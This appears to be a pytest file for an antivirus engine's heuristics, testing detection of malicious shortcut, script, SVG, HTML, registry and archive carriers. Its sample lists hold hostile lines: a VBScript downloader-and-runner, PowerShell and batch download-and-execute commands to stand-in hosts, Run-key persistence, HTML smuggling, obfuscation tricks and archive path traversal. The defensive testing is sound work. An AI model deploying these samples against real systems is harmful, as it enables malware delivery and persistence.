"""Carriers gone through one by one: small files that run something, as attackers send them and as others do."""

import base64
import math
import struct
import zlib

import av_samples
import document_samples
import pytest

from gatepost.antivirus.builtin import BuiltinEngine, packaged_sources
from gatepost.antivirus.compiling import compile_knowledge
from gatepost.antivirus.openers.rar5 import MARK
from gatepost.antivirus.stage import inspect
from gatepost.model.finding import Analysis, ObjectStatus, ScanOptions

ENGINE = BuiltinEngine(compile_knowledge(packaged_sources()))
DROPPER = (
    b'Set x=CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET","http://198.51.100.3/a",False\r\nx.Send\r\n'
    b'Set s=CreateObject("ADODB.Stream")\r\ns.Write x.responseBody\r\ns.SaveToFile "c:\\a.exe",2\r\n'
    b'CreateObject("WScript.Shell").Run "c:\\a.exe"\r\n'
)


def look(data: bytes, name: str) -> Analysis:
    return inspect(av_samples.attached(data, name=name), ScanOptions(), [ENGINE], math.inf)


def verdict(data: bytes, name: str) -> tuple[ObjectStatus, str]:
    """Return status and threat of an attachment."""
    analysis = look(data, name)
    return analysis.objects[2].status, analysis.objects[2].threat


def link(*lines: str) -> bytes:
    return "\r\n".join(("[InternetShortcut]", *lines, "")).encode()


def library(url: str) -> bytes:
    return f"<libraryDescription><simpleLocation><url>{url}</url></simpleLocation></libraryDescription>".encode()


def desktop(*lines: str) -> bytes:
    return "\r\n".join(("full address:s:host.example.net", *lines, "")).encode("utf-16")


def picture(inside: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()


def foreign(inside: str) -> bytes:
    return picture(f'<foreignObject width="9">{inside}</foreignObject>')


def registry(key: str, value: str) -> bytes:
    return f"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\{key}]\r\n{value}\r\n".encode()


def database(inside: bytes = b"") -> bytes:
    return b"\0\1\0\0Standard ACE DB\0" + bytes(400) + inside


def page(script: str) -> bytes:
    return f"<html><script>{script}</script></html>".encode()


def wide_numbers(text: str) -> str:
    return ",".join(f"{byte:02x}" for byte in text.encode("utf-16-le"))


def shortcut(*, path: str = "..\\a.txt", folder: str = "", icon: str = "") -> bytes:
    """A shortcut with a relative path, and a working folder and an icon if they are given."""
    texts = {0x08: path, 0x10: folder, 0x40: icon}
    flags = 0x80 | sum(flag for flag, text in texts.items() if text)
    head = struct.pack("<L16sL", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), flags).ljust(0x4C, b"\0")
    strings = (struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in texts.values() if text)
    return head + b"".join(strings) + bytes(4)


def linked(kind: str, target: str) -> bytes:
    """A document with a relationship to elsewhere."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    row = f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    parts = [
        ("[Content_Types].xml", b"<Types/>"),
        ("word/_rels/settings.xml.rels", f"<Relationships>{row}</Relationships>"),
    ]
    return av_samples.zip_of(*((name, part if isinstance(part, bytes) else part.encode()) for name, part in parts))


RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
DOWNLOAD = "var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([atob(x)]));l.download='a';l.click()"
SVG = "Heuristic.Svg.Script"
LONG = "QUFB" * 150
POWERSHELL, RUNS, REMOTE = (f"Heuristic.Script.{each}" for each in ("PowerShell", "Run", "Batch.Remote"))
SUSPICIOUS = [
    ("a.url", link("URL=mhtml:http://198.51.100.3/a!x-usc:http://198.51.100.3/a"), "Heuristic.Shortcut.Url"),
    ("a.url", link("URL=search-ms:query=a&crumb=location:x"), "Heuristic.Shortcut.Url"),
    ("a.library-ms", library("<![CDATA[\\\\198.51.100.3\\share]]>"), "Heuristic.Shortcut.Library"),
    ("a.library-ms", library("&#92;&#92;198.51.100.3\\share"), "Heuristic.Shortcut.Library"),
    ("a.library-ms", library("\\\\3325256707\\share"), "Heuristic.Shortcut.Library"),
    (
        "a.osdx",
        b'<OpenSearchDescription><Url type="text/html" template="https://x.example/"/>',
        "Heuristic.Shortcut.Library",
    ),
    ("a.rdp", desktop("drivestoredirect:s:C:;DynamicDrives"), "Heuristic.Shortcut.RemoteDesktop"),
    (
        "a.msc",
        b'<MMC_ConsoleFile><String ID="1" Refs="1">https://x.example/a.html</String>',
        "Heuristic.Shortcut.Console",
    ),
    ("a.vsto", b'<deploymentProvider codebase="https://x.example/a.vsto"/>', "Heuristic.Shortcut.Installer"),
    (
        "a.appinstaller",
        b"<AppInstaller " + b" " * 2000 + b' Uri="https://x.example/a"',
        "Heuristic.Shortcut.Installer",
    ),
    ("a.desktop", b"[Desktop Entry]\nType=Application\nExec=python3 -c 'import x'\n", "Heuristic.Shortcut.Desktop"),
    (
        "a.service",
        b"[Unit]\n[Service]\nExecStart=/bin/sh -c 'curl https://x.example | sh'\n",
        "Heuristic.Shortcut.Desktop",
    ),
    ("a.reg", registry(RUN, f'"x"=hex(2):{wide_numbers("powershell -enc A")}'), "Heuristic.Shortcut.Registry"),
    ("a.reg", registry(RUN, f'"x"=hex(1):{wide_numbers("cmd.exe /c a")}'), "Heuristic.Shortcut.Registry"),
    ("a.reg", registry("Environment", '"UserInitMprLogonScript"="c:\\\\a.exe"'), "Heuristic.Shortcut.Registry"),
    ("a.a3x", b"\xa3HK\xbe" + bytes(12) + b"AU3!EA06" + bytes(90), "Heuristic.Script.Automation"),
    ("a.accde", database(), "Heuristic.Carrier.Database"),
    ("a.accdb", database("AutoExec".encode("utf-16-le") + b"cmd.exe /c a"), "Heuristic.Carrier.Database"),
    ("a.svg", foreign('<iframe src="https://x.example"/>'), SVG),
    ("a.svg", foreign('<h:form action="https://x.example"><h:input/></h:form>'), SVG),
    ("a.svg", foreign('<meta http-equiv="refresh" content="0;url=https://x.example"/>'), SVG),
    ("a.svg", picture('<script xlink:href="https://x.example/a.js"/>'), SVG),
    ("a.svg", picture('<script href="data:text/javascript;base64,YQ=="/>'), SVG),
    ("a.svg", picture('<a><animate attributeName="href" values="javascript:a()"/></a>'), SVG),
    ("a.svg", picture('<script>var q=["loc"];window[q[0]+"ation"]="x"</script>'), SVG),
    ("a.xml", picture('<script>window.location.href="https://x.example"</script>'), SVG),
    ("a.html", b'<html><iframe src="search:query=x&crumb=location:\\\\198.51.100.3"></html>', "Heuristic.Html.Command"),
    ("a.html", b'<html><img src="file://198.51.100.3/s/a.png"></html>', "Heuristic.Html.Share"),
    ("a.html", b'<html><img src="\\\\host.example.net@80\\s\\a.png"></html>', "Heuristic.Html.Share"),
    ("a.html", b'<html><a href="file:///\\\\198.51.100.3\\s\\a.rtf!x">a</a></html>', "Heuristic.Html.Share"),
    (
        "a.html",
        page(f"eval(atob('{base64.b64encode(DOWNLOAD.encode()).decode()}'))"),
        "Heuristic.Html.Smuggling",
    ),
    (
        "a.html",
        page(f"Function(String.fromCharCode({','.join(str(c) for c in DOWNLOAD.encode())}))()"),
        "Heuristic.Html.Smuggling",
    ),
    (
        "a.vbs",
        b"x = " + b" & ".join(b"Chr(%d)" % c for c in DROPPER) + b"\r\nSend x",
        "Heuristic.Script.Dropper",
    ),
    (
        "a.vbs",
        b"a=Array(1,2)\r\nFor Each i In a\r\ns=s&Chr(i)\r\nNext\r\nExecuteGlobal s",
        "Heuristic.Script.Obfuscated",
    ),
    ("a.js", b'var a=this["WSc"+"ript"];a["Crea"+"teObject"]("x")["Ru"+"n"]("y")', "Heuristic.Script.Obfuscated"),
    ("a.jse", b"#@~^AAAAAA==without its end", "Heuristic.Script.Encoded"),
    ("a.vbs", b"'" + b"x" * 4_200_000, "Heuristic.Script.Padded"),
    ("a.wsf", b'<job><script language="JScript" src="https://x.example/a.js"/></job>', "Heuristic.Script.Remote"),
    ("a.hta", b'<html><script src="\\\\x.example\\a.js"></script></html>', "Heuristic.Script.Remote"),
    ("a.hta", b"<script>eval(String.fromCharCode(97))</script>", "Heuristic.Script.Hta"),
    ("a.ps1", b"iex (iwr https://x.example/a -UseBasicParsing)", "Heuristic.Script.PowerShell"),
    ("a.ps1", b'$a=[char]105+[char]101+[char]120; &($a) "x"', "Heuristic.Script.PowerShell.Obfuscated"),
    ("a.ps1", b'(n`ew-ob`ject net.webclient).d`ownloads`tring("x")', "Heuristic.Script.PowerShell.Obfuscated"),
    ("a.ps1", b'$x=New-Object -Com Msxml2.XMLHTTP;$x.open("GET","https://x.example");iex $x.responseText', POWERSHELL),
    ("a.ps1", b"Start-BitsTransfer https://x.example/a.exe a.exe; saps a.exe", POWERSHELL),
    ("a.vbs", b'Set s=CreateObject("WSc"&"ript.Sh"&"ell")\r\ns.Run "a"', RUNS),
    ("a.vbs", b'Set s=GetObject("winmgmts:Win32_Process")\r\ns.Create "a"', RUNS),
    ("a.vbs", b'GetObject("script:https://x.example/a.sct")', RUNS),
    ("a.js", b'var o=["a"];new ActiveXObject(o[0]).Run("x")', RUNS),
    ("a.js", b'GetObject("winmgmts:root\\\\cimv2:Win32_Process").Create("a")', RUNS),
    ("a.bat", b"net use Z: \\\\198.51.100.3@SSL\\DavWWWRoot\r\nZ:\\a.exe", REMOTE),
    ("a.bat", b'start "" \\\\198.51.100.3\\s\\a.exe', REMOTE),
    ("a.bat", b"msiexec /q /i https://x.example/a.msi", REMOTE),
    ("a.bat", b'wmic os get /format:"https://x.example/a.xsl"', REMOTE),
    ("a.cmd", b"curl https://x.example/a.bat | cmd", REMOTE),
    ("a.bat", b"for /f %%i in ('curl -s https://x.example/a') do %%i", REMOTE),
    ("a.bat", b"ftp -s:x 198.51.100.3", REMOTE),
    ("a.bat", b"@echo off\r\np^o^w^e^r^s^h^e^l^l -c x", "Heuristic.Script.Batch.Obfuscated"),
    ("a.bat", b"set a=pow\r\nset b=ershell\r\n%a%%b% -c x", "Heuristic.Script.Batch.Obfuscated"),
    (
        "a.bat",
        b"set x=abc\r\n" + b"%x:~1,1%%x:~2,1%%x:~0,1%%x:~1,1%%x:~2,1%%x:~0,1%",
        "Heuristic.Script.Batch.Obfuscated",
    ),
    ("a.cmd", b"\xff\xfe&cls\r\necho x", "Heuristic.Script.Batch.Obfuscated"),
    ("a.one", document_samples.notebook(DROPPER), "Heuristic.Script.Dropper"),
    ("a.lnk", shortcut(path=".\\_\\a.vbs"), "Heuristic.Shortcut.Script"),
    ("a.lnk", shortcut(path=".\\_\\a.exe"), "Heuristic.Shortcut.Script"),
    ("a.lnk", shortcut(folder="\\\\198.51.100.3\\s"), "Heuristic.Shortcut.Remote"),
    ("a.lnk", shortcut(icon="\\\\198.51.100.3\\s\\a.ico"), "Heuristic.Shortcut.Remote"),
    ("a.docx", linked("mailMergeSource", "https://x.example/a"), "Heuristic.Office.RemoteObject"),
    ("a.docx", linked("extensibility", "https://x.example/a.xml"), "Heuristic.Office.RemoteObject"),
    ("a.html", page(f"document.write(CryptoJS.AES.decrypt('{LONG}', 'key'))"), "Heuristic.Html.Encrypted"),
    ("a.html", page("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]" * 20), "Heuristic.Html.Obfuscated"),
    ("a.html", page("while(!![]){}" + "_0x3f2a(0x1a4);" * 20), "Heuristic.Html.Obfuscated"),
    ("a.html", page("new Proxy({},h)." + "\u3164\uffa0" * 40), "Heuristic.Html.Obfuscated"),
    ("a.js", ("eval(x." + "\u3164\uffa0" * 40 + ")").encode(), "Heuristic.Script.Obfuscated"),
    ("a.html", page("window.location.href=atob('aHR0cHM6Ly94LmV4YW1wbGU=')"), "Heuristic.Html.Redirect"),
    (
        "a.htm",
        page("var a='elpmaxe.x'.split('').reverse().join('');location.replace('//'+a)"),
        "Heuristic.Html.Redirect",
    ),
    ("a.ovpn", b"client\nscript-security 2\nup \"/bin/bash -c 'id >/tmp/a'\"\n", "Heuristic.Shortcut.Tunnel"),
    (
        "a.xsl",
        b'<stylesheet xmlns:m="x"><m:script implements-prefix="u" language="JScript">new ActiveXObject("x")</m:script>',
        "Heuristic.Script.Stylesheet",
    ),
    ("a.xbap", b'<deploymentProvider codebase="https://x.example/a.xbap"/>', "Heuristic.Shortcut.Installer"),
]
HARMLESS = [
    ("a.url", link("URL=https://example.net/news")),
    ("a.library-ms", library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
    ("a.library-ms", library("\\\\server\\share")),
    ("a.rdp", desktop("drivestoredirect:s:", "remoteapplicationmode:i:1", "remoteapplicationprogram:s:||Ledger")),
    ("a.msc", b'<MMC_ConsoleFile><String ID="1" Refs="1">Certificates</String>'),
    ("a.service", b"[Unit]\n[Service]\nExecStart=/usr/bin/ledger --serve\n"),
    ("a.reg", registry(RUN, f'"x"=hex(2):{wide_numbers("%ProgramFiles%/Backup/tray.exe")}')),
    ("a.accdb", database("AutoExec".encode("utf-16-le"))),
    ("a.mdb", b"\0\1\0\0Standard Jet DB\0" + bytes(400)),
    ("a.svg", foreign('<div xmlns="http://www.w3.org/1999/xhtml">A diagram</div>')),
    ("a.svg", picture('<a><animate attributeName="r" values="1;2"/></a>')),
    ("a.html", b'<html><img src="//static.example.net/a.png"><img src="file:///C:/Users/a/a.png"></html>'),
    ("a.html", b'<html><img src="file://192.168.1.5/s/a.png"><img src="\\\\server\\s\\a.png"></html>'),
    ("a.html", page("var a=atob('" + base64.b64encode(b"just a text of some length, " * 5).decode() + "')")),
    ("a.html", page("if (location == a) { b = 1 } location.href = 'https://example.net/news'")),
    ("a.html", page("var a = atob('YQ=='); show(location.pathname)")),
    ("a.vbs", b"MsgBox Chr(65)"),
    ("a.vbs", b'Set f=CreateObject("Scripting.FileSystemObject")\r\nMsgBox f.FileExists("a")'),
    ("a.js", b'var x=window.XMLHttpRequest?1:new ActiveXObject("Microsoft.XMLHTTP");/a/.exec(x);task.run(x)'),
    ("a.bat", b"net use Z: \\\\192.168.1.5\\share\r\npushd \\\\server\\tools\r\npowershell -File a.ps1"),
    ("a.js", b'exports.a = function (b) { return b["na" + c]; };'),
    ("a.ps1", b'Write-Host "a`n"; Get-ChildItem | ForEach-Object { $_.Name }'),
    ("a.bat", b'@echo off\r\nset DIR=%~dp0\r\nset OUT=%DIR%out\r\ncopy "%DIR%a.txt" "%OUT%"\r\necho ^<done^>\r\n'),
    ("a.hta", b"<html><script>window.resizeTo(300, 200)</script></html>"),
    ("a.one", document_samples.notebook(b"just a list of things to bring")),
    (
        "a.lnk",
        shortcut(path="..\\..\\Program Files\\Ledger\\ledger.exe", folder="C:\\Ledger", icon="\\\\server\\i.ico"),
    ),
    ("a.docx", linked("image", "https://example.net/a.png")),
    (
        "a.html",
        b'<html><form action="https://example.net"><input type="password"></form><script>var a=1</script></html>',
    ),
    ("a.html", page(f"var a = '{LONG}'; crypto.subtle.digest('SHA-256', a)")),
    ("a.ovpn", b"client\nremote vpn.example.net 1194\nscript-security 2\nup /etc/openvpn/update-resolv-conf\n"),
    ("a.xsl", b'<xsl:stylesheet><xsl:template match="/">A table</xsl:template></xsl:stylesheet>'),
]


@pytest.mark.parametrize(
    ("name", "data", "threat"), SUSPICIOUS, ids=[f"{n}-{i}" for i, (n, _, _) in enumerate(SUSPICIOUS)]
)
def test_files_that_run_something(name: str, data: bytes, threat: str) -> None:
    assert verdict(data, name) == (ObjectStatus.SUSPICIOUS, threat)
    assert verdict(av_samples.zip_of((name, data)), "a.zip") == (ObjectStatus.SUSPICIOUS, threat)


@pytest.mark.parametrize(("name", "data"), HARMLESS, ids=[f"{n}-{i}" for i, (n, _) in enumerate(HARMLESS)])
def test_such_files_that_do_not(name: str, data: bytes) -> None:
    assert verdict(data, name) == (ObjectStatus.CLEAN, "")


def test_a_page_for_which_its_reader_needs_a_password_is_protected() -> None:
    form = b'<input type="password" id="p">'
    analysis = look(form + page(f"crypto.subtle.decrypt(a, k, '{LONG}').then(x => document.write(x))"), "a.html")
    assert analysis.objects[2].status is ObjectStatus.PROTECTED
    assert "a password its reader knows" in analysis.objects[2].evidence


@pytest.mark.parametrize("mark", [b"!BDN" + bytes(4) + b"SM", b"\xcf\xad\x12\xfe\xc5\xfd\x74\x6f\x66\xe3\xd1\x11"])
def test_mail_folders_that_nobody_opens_are_not_clean(mark: bytes) -> None:
    assert verdict(mark + bytes(600), "a.bin")[0] is ObjectStatus.ERROR


# -- archives ----------------------------------------------------------------------------------------------------------


def zip_with(name: bytes, data: bytes, *, extra: bytes = b"", local: bytes = b"") -> bytes:
    """A zip archive of one stored member; `local`: its name in its own header."""
    own = local or name
    common = struct.pack("<HHHHIII", 0, 0, 0, 0x5A21, zlib.crc32(data), len(data), len(data))
    head = b"PK\3\4" + struct.pack("<H", 20) + common + struct.pack("<HH", len(own), 0) + own + data
    entry = b"PK\1\2" + struct.pack("<HH", 20, 20) + common
    entry += struct.pack("<HHHHHII", len(name), len(extra), 0, 0, 0, 0, 0) + name + extra
    return head + entry + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(head), 0)


def unicode_path(usual: bytes, other: str) -> bytes:
    field = b"\1" + struct.pack("<I", zlib.crc32(usual)) + other.encode()
    return struct.pack("<HH", 0x7075, len(field)) + field


def test_a_member_is_looked_at_by_every_name_unpackers_give_it() -> None:
    threat = (ObjectStatus.SUSPICIOUS, "Heuristic.Script.Dropper")
    assert verdict(zip_with(b"a.txt", DROPPER, extra=unicode_path(b"a.txt", "a.vbs")), "a.zip") == threat
    assert verdict(zip_with(b"a.txt", DROPPER, local=b"a.vbs"), "a.zip") == threat
    analysis = look(zip_with(b"a.txt", b"x", extra=unicode_path(b"a.txt", "ä.txt")), "a.zip")
    assert [each.name for each in analysis.objects[2:]] == ["a.zip", "a.txt"]
    stale = look(zip_with(b"a.txt", DROPPER, extra=unicode_path(b"b.txt", "a.vbs")), "a.zip")
    assert [each.name for each in stale.objects[2:]] == ["a.zip", "a.txt"]


@pytest.mark.parametrize("name", ["../a.txt", "x/../../a.txt", "..\\..\\Startup\\a.bat", "a.pdf:..\\..\\a.lnk"])
def test_members_that_leave_their_folder(name: str) -> None:
    status, threat = verdict(av_samples.zip_of((name, b"x")), "a.zip")
    assert (status, threat) == (ObjectStatus.SUSPICIOUS, "Heuristic.Disguised.Path")


@pytest.mark.parametrize("name", ["a..b/c.txt", "..a/b.txt", "x/..b", "a.txt"])
def test_members_that_stay(name: str) -> None:
    assert verdict(av_samples.zip_of((name, b"x")), "a.zip")[0] is ObjectStatus.CLEAN


def rar5(*blocks: bytes) -> bytes:
    return MARK + block(b"\1\0\0") + b"".join(blocks) + block(b"\5\0\0")


def block(body: bytes) -> bytes:
    sized = bytes((len(body),)) + body
    return struct.pack("<I", zlib.crc32(sized)) + sized


def stored(kind: int, name: bytes, data: bytes, extra: bytes = b"") -> bytes:
    """A stored file (2) or service (3) with a checksum."""
    fields = bytes((4, len(data), 0)) + struct.pack("<I", zlib.crc32(data)) + bytes((0, 0, len(name))) + name
    sizes = bytes((len(extra), len(data))) if extra else bytes((len(data),))
    return block(bytes((kind, 3 if extra else 2)) + sizes + fields + extra) + data


def test_streams_of_ntfs_in_rar_archives_are_files() -> None:
    own = b":..\\..\\Startup\\a.lnk"
    stream = stored(3, b"STM", av_samples.eicar(), bytes((len(own) + 1, 7)) + own)
    archive = rar5(stored(2, b"cv.pdf", b"text"), stream, stored(2, b"b.txt", b"more"))
    analysis = look(archive, "a.rar")
    assert [each.name for each in analysis.objects[3:]] == ["cv.pdf", "b.txt", "cv.pdf:..\\..\\Startup\\a.lnk"]
    assert analysis.objects[2].status is ObjectStatus.INFECTED
    small = stored(3, b"STM", b"[ZoneTransfer]\r\nZoneId=3", bytes((17, 7)) + b":Zone.Identifier")
    assert verdict(rar5(stored(2, b"cv.pdf", b"text"), small), "a.rar") == (ObjectStatus.CLEAN, "")
    comment = stored(3, b"CMT", b"a comment")
    assert [e.name for e in look(rar5(comment, stored(2, b"a.txt", b"x")), "a.rar").objects[3:]] == ["a.txt"]


def test_objects_of_rtf_behind_a_long_number() -> None:
    native = document_samples.rtf_object(b"Package", document_samples.package(av_samples.eicar())[4:]).hex()
    data = b"{\\rtf1{\\object{\\*\\objdata-99999999999 " + native.encode() + b"}}}"
    assert verdict(data, "a.rtf") == (ObjectStatus.INFECTED, "EICAR-Test-File")
